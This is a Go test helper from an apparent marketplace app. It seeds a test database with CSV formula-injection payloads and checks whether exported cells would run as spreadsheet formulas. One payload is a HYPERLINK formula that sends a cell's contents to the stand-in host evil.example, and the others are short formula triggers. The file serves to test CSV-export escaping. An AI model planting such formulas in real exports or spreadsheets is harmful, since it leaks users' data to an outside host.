package storetest

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"niaga/store"
)

// Injections are spreadsheet formulas (CSV injection, OWASP) that users
// could type into names, titles and notes.
var Injections = []string{`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"}

// injected are the user-written text columns that PlantInjections fills.
var injected = []struct{ table, column, key string }{
	{"organizations", "name", "id"},
	{"markets", "name", "id"},
	{"auction_sessions", "title", "id"},
	{"lots", "grade", "id"},
	{"lots", "origin", "id"},
	{"lots", "delivery_terms", "id"},
	{"missions", "title", "id"},
	{"missions", "venue", "id"},
	{"deals", "note", "id"},
	{"agreements", "title", "id"},
	{"agreements", "sector", "id"},
	{"agreement_parties", "name", "position"},
}

// PlantInjections rewrites the user-written text of a seeded database
// (organization and market names, session and mission titles, lot grades
// and descriptions, deal notes, agreements) to Injections followed by the
// row's id (a party's position), and returns, per payload, the cell text an escaped CSV must
// hold for it: a leading single quote.
func PlantInjections(t testing.TB, db *store.DB) []string {
	t.Helper()
	for i, c := range injected {
		p := Injections[i%len(Injections)]
		q := "UPDATE " + c.table + " SET " + c.column + " = '" + strings.ReplaceAll(p, "'", "''") + "' || CAST(" + c.key + " AS TEXT)"
		if _, err := db.Raw().ExecContext(context.Background(), q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	out := make([]string, len(Injections))
	for i, p := range Injections {
		out[i] = "'" + p
	}
	return out
}

// FormulaCell reports whether a spreadsheet would evaluate a CSV cell as a
// formula: it begins with =, +, -, @, a tab, CR or LF and is not a plain
// integer (a negative number is a number).
func FormulaCell(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
		return false
	}
	if _, err := strconv.ParseInt(cell, 10, 64); err == nil && cell[0] == '-' {
		return false
	}
	return true
}
